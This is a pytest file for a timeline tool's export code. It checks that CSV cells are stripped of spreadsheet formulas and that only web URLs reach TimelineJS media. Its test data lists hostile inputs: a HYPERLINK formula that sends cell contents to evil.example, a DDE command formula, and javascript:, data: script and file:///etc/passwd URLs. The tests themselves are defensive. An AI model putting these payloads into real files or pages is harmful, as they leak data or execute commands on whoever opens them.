"""Exports read by other programs: Python's csv module, iCalendar parsers, browsers.

What a spreadsheet would run, what a browser would follow and what a calendar would drop
are checked with the real readers where they install from the package index; a test
whose reader is missing is skipped with the reason.
"""

from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path
from typing import Any

import pytest

from chronicle.config import init_chronicle
from chronicle.dates import PartialDate
from chronicle.exchange import ExportOptions, export_entries
from chronicle.exchange.csvfmt import neutralise, restore
from chronicle.exchange.importing import ImportSource, plan_import, write_import
from chronicle.exchange.markup import is_web_url
from chronicle.model import Entry, Source
from chronicle.store import load_all

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
HOSTILE = [
    "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "plain",
    "'just an apostrophe",
]


def _entry(number: int, text: str, **fields: Any) -> Entry:
    return Entry(
        # Titles and names are kept stripped of surrounding space; the rest as written.
        id=f"e/{number}", title=f"{text.strip()} {number}", date=PartialDate.parse("2014-04-17"),
        summary=text, body=f"{text}\nsecond line", people=(text.strip(),),
        places=(f"{text.strip()} place",), tags=(text.strip(),), sources=(Source(title=text, url="https://example.org/a"),),
        extra={"note": text, text.strip() or "k": text}, path=f"entries/e/{number}.yaml",
        **fields,
    )


def _export(entries: list[Entry], fmt: str) -> str:
    return export_entries(entries, fmt, ExportOptions(title="Test")).text


def _import(text: str, fmt: str, suffix: str) -> dict[str, dict[str, Any]]:
    with tempfile.TemporaryDirectory() as folder:
        chronicle = init_chronicle(Path(folder) / "c")
        path = Path(folder) / f"in.{suffix}"
        path.write_text(text, encoding="utf-8", newline="")
        plan = plan_import(chronicle, [ImportSource(path, fmt)], existing=[])
        assert plan.invalid == [], [o.reason for o in plan.invalid]
        write_import(chronicle, plan)
        return {e.id: e.to_dict() for e in load_all(chronicle).entries}


# -- CSV: no formula reaches a spreadsheet ---------------------------------------------------


@pytest.mark.parametrize("cell", HOSTILE)
def test_neutralise_is_undone_by_restore(cell: str) -> None:
    assert restore(neutralise(cell)) == cell
    assert neutralise(cell)[:1] not in FORMULA_STARTS


def test_no_csv_cell_starts_a_formula_as_python_csv_reads_it() -> None:
    entries = [_entry(n, text) for n, text in enumerate(HOSTILE)]
    entries.append(Entry(id="bce", title="Caesar", date=PartialDate.parse("-0043-03-15"),
                         extra={"count": -5}, path="entries/bce.yaml"))
    text = _export(entries, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(entries) + 1
    cells = [cell for row in rows for cell in row]
    assert cells, text
    for cell in cells:
        assert cell[:1] not in FORMULA_STARTS, cell
    bce = rows[-1][rows[0].index("date")]
    assert bce == "'-0043-03-15"


def test_neutralised_csv_imports_back_to_exactly_what_was_written() -> None:
    entries = [_entry(n, text) for n, text in enumerate(HOSTILE)]
    entries.append(Entry(id="bce", title="Caesar", date=PartialDate.parse("-0043-03-15"),
                         extra={"count": -5}, path="entries/bce.yaml"))
    back = _import(_export(entries, "csv"), "csv", "csv")
    assert back == {entry.id: entry.to_dict() for entry in entries}


def test_list_format_csv_is_neutralised_too(cli: Any, chronicle_root: Path) -> None:
    path = chronicle_root / "entries" / "formula.yaml"
    path.write_text('title: "=1+1"\ndate: "2014"\ntags: ["@x"]\n', encoding="utf-8")
    result = cli("list", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    row = next(row for row in rows if row["id"] == "formula")
    assert row["title"] == "'=1+1" and row["tags"] == "'@x"


# -- TimelineJS: only web addresses reach media.url ------------------------------------------

UNSAFE_URLS = [
    "javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)",
    "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "file:///etc/passwd", "ftp://example.org/x",
    "urn:isbn:0451450523", "https://example.org/a b", "https://example.org/\nx",
]


@pytest.mark.parametrize("url", UNSAFE_URLS)
def test_only_http_urls_count_as_web_urls(url: str) -> None:
    assert not is_web_url(url)


def test_web_urls_are_web_urls() -> None:
    for url in ("https://example.org/a?b=c#d", "HTTP://EXAMPLE.ORG", "http://x.y/%20"):
        assert is_web_url(url)


def test_no_script_url_reaches_timelinejs_media() -> None:
    sources = tuple(Source(title=f"s{n}", url=url) for n, url in enumerate(UNSAFE_URLS))
    only_unsafe = Entry(id="a", title="A", date=PartialDate.parse("2014"), sources=sources,
                        path="entries/a.yaml")
    then_safe = Entry(id="b", title="B", date=PartialDate.parse("2015"),
                      sources=(*sources, Source(title="ok", url="https://example.org/ok")),
                      path="entries/b.yaml")
    document = json.loads(_export([only_unsafe, then_safe], "timelinejs"))
    first, second = document["events"]
    assert "media" not in first
    assert second["media"] == {"url": "https://example.org/ok", "caption": "ok"}
    # Every source is still kept for chronicle in the slide's extension.
    assert len(first["chronicle"]["sources"]) == len(UNSAFE_URLS)
